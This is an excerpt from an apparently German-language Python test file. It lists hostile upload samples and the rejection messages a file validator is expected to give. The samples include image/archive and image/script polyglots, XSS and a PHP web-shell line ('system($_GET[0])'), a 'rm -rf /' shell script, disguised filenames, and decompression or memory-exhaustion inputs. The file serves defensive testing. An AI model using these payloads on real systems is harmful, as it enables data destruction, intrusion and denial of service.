    Feind("PNG-Flut in erlaubten Kanten", "a.png", lambda: png(15_000, 15_000, daten=b"x"), "zu groß"),
    Feind("PNG-Streifen", "a.png", lambda: png(50_000, 1), "zu groß"),
    Feind("PNG ohne Breite", "a.png", lambda: png(0, 2), "beschädigt"),
    Feind("PNG abgeschnitten", "a.png", lambda: png()[:-20], "beschädigt"),
    Feind("PNG mit zu wenig Daten", "a.png", lambda: png(daten=zlib.compress(b"\0\1\2\3")), "beschädigt"),
    Feind("PNG mit zu viel Daten", "a.png", lambda: png(daten=zlib.compress(b"\0" * 10**7)), "beschädigt"),
    Feind(
        "PNG mit Daten hinter den Daten", "a.png", lambda: png(daten=zlib.compress(b"\0" * 20) + b"MZ"), "beschädigt"
    ),
    Feind("PNG mit falscher Prüfsumme", "a.png", lambda: png(mehr=_falsch(chunk(b"tEXt", b"a\0b"), -1)), "beschädigt"),
    Feind("PNG mit falscher Farbe", "a.png", lambda: png(farbe=5), "beschädigt"),
    Feind("PNG ohne Kopf", "a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), "beschädigt"),
    Feind("PNG und ZIP", "a.png", lambda: png() + packe({"a.exe": b"MZ"}), "weitere Daten"),
    Feind("PNG und Skript", "a.png", lambda: png() + b"<script>x</script>", "weitere Daten"),
    Feind("PNG mit Skript im Text", "a.png", lambda: png(mehr=chunk(b"tEXt", b"a\0<?php x ?>")), "Skript"),
    Feind("PNG mit ZIP im Text", "a.png", lambda: png(mehr=chunk(b"zIPx", packe({"a": b"b"}, laenge=65))), "ZIP"),
    Feind("JPEG-Flut", "a.jpg", lambda: jpeg(65_000, 65_000), "zu groß"),
    Feind("JPEG ohne Höhe", "a.jpg", lambda: jpeg(8, 0), "beschädigt"),
    Feind("JPEG abgeschnitten", "a.jpg", lambda: jpeg()[:-3], "beschädigt"),
    Feind("JPEG ohne Ende", "a.jpeg", lambda: jpeg()[:-2], "beschädigt"),
    Feind("JPEG nur Kopf", "a.jpg", lambda: b"\xff\xd8\xff\xd9", "beschädigt"),
    Feind("JPEG ohne Verlust", "a.jpg", lambda: jpeg(rahmen=0xC3), "beschädigt"),
    Feind("JPEG mit Skript", "a.jpg", lambda: jpeg(mehr=segment(0xFE, b"<script>x</script>")), "Skript"),
    Feind("GIF und JavaScript", "a.png", lambda: b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)", "GIF-Bild"),
    Feind("JPEG als PNG", "a.png", jpeg, "JPEG-Bild"),
    Feind("PNG als JPEG", "a.jpg", png, "PNG-Bild"),
    Feind("Bild ohne Bild", "a.jpg", lambda: b"Guten Tag", "kein JPEG-Bild"),
    Feind("PNG ohne Bild", "a.png", lambda: b"Guten Tag", "kein PNG-Bild"),
]
TEXTE = [
    Feind("NUL im Text", "a.txt", lambda: b"a\0b", "keine reine Textdatei"),
    Feind("Steuerzeichen im Text", "a.txt", lambda: b"a\x1b]0;x\x07", "keine reine Textdatei"),
    Feind("Steuerzeichen in UTF-8", "a.txt", "a\x9b31m".encode, "keine reine Textdatei"),
    Feind("UTF-16", "a.txt", lambda: "Grüße".encode("utf-16"), "keine reine Textdatei"),
    Feind("nur Leerzeichen", "a.txt", lambda: b"\xef\xbb\xbf \r\n", "leer"),
    Feind("Webseite mitten im Text", "a.txt", lambda: b"Hallo <ScRiPt>alert(1)</script>", "Webseite"),
    Feind("PHP im Text", "a.txt", lambda: b"x\n<?php system($_GET[0]);", "Skript"),
]
# --- other kinds under a good name, and names -------------------------------------------------------------------------

FREMDE: dict[str, bytes] = {
    "Windows-Programm": b"MZ\x90\0",
    "ein Programm": b"\x7fELF\2\1",
    "Skript": b"#!/bin/sh\nrm -rf /",
    "RAR-Archiv": b"Rar!\x1a\7\0",
    "7z-Archiv": b"7z\xbc\xaf\x27\x1c",
    "gepacktes": b"\x1f\x8b\x08",
    "tar-Archiv": b"a" * 257 + b"ustar\0",
    "Datenträger": b"\0" * 0x8001 + b"CD001",
    "Verknüpfung": b"\x4c\0\0\0\1\x14\2\0",
    "alten Office": OLE,
    "Webseite": b" \n<!DOCTYPE html><body>",
    "SVG": SVG % b"<script/>",
    "XML": b"\xef\xbb\xbf<?xml version='1.0'?><a/>",
    "E-Mail": b"From: a@b.example\r\nSubject: x\r\n\r\nx",
    "RTF": b"{\\rtf1 x}",
    "PostScript": b"%!PS",
    "ZIP": packe({"a": b"b"}),
}
ENDUNGEN = [
    *("exe", "js", "html", "htm", "svg", "xml", "sh", "bat", "ps1", "zip", "rar", "7z", "iso", "lnk", "eml", "msg"),
    *("gif", "webp", "heic", "mp4", "hta", "jar", "php", "url"),
]
SORTEN = [
    *(Feind(f"{was} als {e}", f"a.{e}", lambda i=i: i, was) for was, i in FREMDE.items() for e in ("pdf", "docx", "jpg")
      if not (was == "ZIP" and e == "docx")),
    *(Feind(f"{was} als txt", "a.txt", lambda i=i: i, was) for was, i in FREMDE.items()),
    *(Feind(f"Endung {e}", f"Plan.{e}", lambda: b"Guten Tag", f"„.{e}“") for e in ENDUNGEN),
    *(Feind(f"altes Format {e}", f"Plan.{e}", lambda: OLE, "Bitte als PDF oder docx") for e in ("doc", "dot", "rtf")),
    *(Feind(f"altes Format {e}", f"Plan.{e}", lambda: OLE, "Bitte als PDF") for e in ("xls", "ppt", "pps", "xlsb")),
    *(Feind(f"Makroformat {e}", f"a.{e}", mit(DOCX), "Dateien mit Makros") for e in ("docm", "dotm", "xlsm", "pptm")),
    Feind("PDF als docx", "a.docx", pdf, "PDF-Datei"),
    Feind("docx als PDF", "a.pdf", lambda: packe(DOCX), "Office-Dokument"),
    Feind("doppelte Endung", "plan.pdf.exe", pdf, "„.exe“"),
    Feind("umgedrehte Schrift", "plan\u202efdp.exe", pdf, "„.exe“"),
    Feind("NUL vor der Endung", "plan.pdf\0.exe", pdf, "„.exe“"),
    Feind("breiter Punkt", "plan\uff0epdf", pdf, "ohne eine bekannte Endung"),
    Feind("kein Name", "", pdf, "ohne eine bekannte Endung"),
    Feind("keine Endung", "plan", pdf, "ohne eine bekannte Endung"),
    Feind("lange Endung", "plan." + "x" * 300, pdf, "ohne eine bekannte Endung"),
    Feind("Endung mit Zeichen", "plan.p\u0434f", pdf, "ohne eine bekannte Endung"),
    Feind("leer", "plan.pdf", lambda: b"", "leer"),
    Feind("zu groß", "plan.pdf", lambda: pdf() + b"\0" * ANLAGE_HOECHSTENS, "größer als 5 MB"),
]  # fmt: skip
FEINDLICH = [*PDFS, *OFFICE, *BILDER, *TEXTE, *SORTEN]

# --- as large as may be, to take time and memory ----------------------------------------------------------------------

VOLL = ANLAGE_HOECHSTENS - 2_000


def gefuellt(stueck: bytes) -> bytes:
    """A PDF with so much of it as goes in, openly."""
    return pdf(strom(stueck * (VOLL // len(stueck))))


def im_objektstrom(stueck: bytes) -> bytes:
    return pdf_mit_objektstrom(stueck * ((16 * 2**20 - 100) // len(stueck)))


def docx_mit(stueck: bytes, anzahl: int, davor: bytes = b"<x>", danach: bytes = b"</x>") -> bytes:
    """Unpacked as much as may be; noise keeps the ratio below its limit."""
    laerm = random.Random(1).randbytes(600_000)
    return packe(DOCX | {"a.xml": davor + stueck * anzahl + danach, "word/media/l.png": b"\x89PNG\r\n\x1a\n" + laerm})


def viele_objektstroeme() -> bytes:
    return pdf(*[objektstrom(b"<<>>") for _ in range(6_000)])


def viele_teile() -> bytes:
    """A table of contents of 5 MB."""
    return packe({f"{n}": b"" for n in range(48_000)})


SCHWER: dict[str, tuple[str, Callable[[], bytes]]] = {
    "PDF: nur Schrägstriche": ("a.pdf", lambda: gefuellt(b"/")),
    "PDF: nur maskierte Namen": ("a.pdf", lambda: gefuellt(b"/#41")),
    "PDF: nur #-Zeichen": ("a.pdf", lambda: gefuellt(b"#41")),
    "PDF: nur Kommentare": ("a.pdf", lambda: gefuellt(b"/AA%")),
    "PDF: nur Verweise": ("a.pdf", lambda: gefuellt(b"/URI(a)")),
    "PDF: nur stream": ("a.pdf", lambda: gefuellt(b"stream /First 1")),
    "PDF: nur Objektköpfe": ("a.pdf", lambda: gefuellt(b"/First%")),
    "PDF: nur Öffnen": ("a.pdf", lambda: gefuellt(b"/OpenAction 3 0 R")),
    "PDF: nur Leerzeichen": ("a.pdf", lambda: gefuellt(b"/First  ")),
    "PDF: nur Ziffern": ("a.pdf", lambda: gefuellt(b"1")),
    "PDF: Objektstrom voll Schrägstriche": ("a.pdf", lambda: im_objektstrom(b"/")),
    "PDF: Objektstrom voll maskierter Namen": ("a.pdf", lambda: im_objektstrom(b"/#41")),
    "PDF: Objektstrom voll Verweise": ("a.pdf", lambda: im_objektstrom(b"/URI(a)")),
    "PDF: Objektstrom voll Zahlen": ("a.pdf", lambda: im_objektstrom(b"1 ")),
    "PDF: viele Objektströme": ("a.pdf", viele_objektstroeme),
    "ZIP: viele Teile": ("a.docx", viele_teile),
    "XML: eine Million Elemente": ("a.docx", lambda: docx_mit(b"<a/>", 990_000)),
    "XML: Elemente mit Attributen": ("a.docx", lambda: docx_mit(b'<a b="c" d="e" f="g"/>', 570_000)),
    "XML: ein langer Wert": ("a.docx", lambda: docx_mit(b"a", 12 * 2**20 - 99, b'<x a="', b'"/>')),
    "XML: ein langer Wert aus Bildzeichen": (
        "a.docx",
        lambda: docx_mit("\U0001f600".encode(), 3 * 2**20 - 99, b'<x href="', b'"/>'),
    ),
    "XML: ein langer Text": ("a.docx", lambda: docx_mit(b"&lt;", 3 * 2**20 - 99, b'<f xmlns="x">', b"</f>")),
    "XML: ein langer Kommentar": ("a.docx", lambda: docx_mit(b"a", 12 * 2**20 - 99, b"<!--", b"--><x/>")),
    "XML: ein langer Name": ("a.docx", lambda: docx_mit(b"a", 12 * 2**20 - 99, b"<", b"/>")),
    "PNG: so viele Bildpunkte wie erlaubt": (
        "a.png",
        lambda: png(7_000, 7_000, daten=zlib.compress((b"\0" + b"\0" * 21_000) * 7_000)),
    ),
    "PNG: viele Stücke": ("a.png", lambda: png(mehr=chunk(b"tEXt", b"") * (VOLL // 12))),
    "JPEG: viele Segmente": ("a.jpg", lambda: jpeg(mehr=segment(0xFE, b"") * (VOLL // 4))),
    "JPEG: nur FF": ("a.jpg", lambda: jpeg(mehr=b"\xff" * VOLL)),
    "Text: nur Zeilen": ("a.txt", lambda: b"From: a\n" + b"\ta\n" * (VOLL // 3)),
    "Text: nur Leerzeichen": ("a.txt", lambda: b" " * VOLL + b"<a"),
    "Name: so lang wie der Inhalt": ("/" * VOLL + "a.pdf", pdf),
}
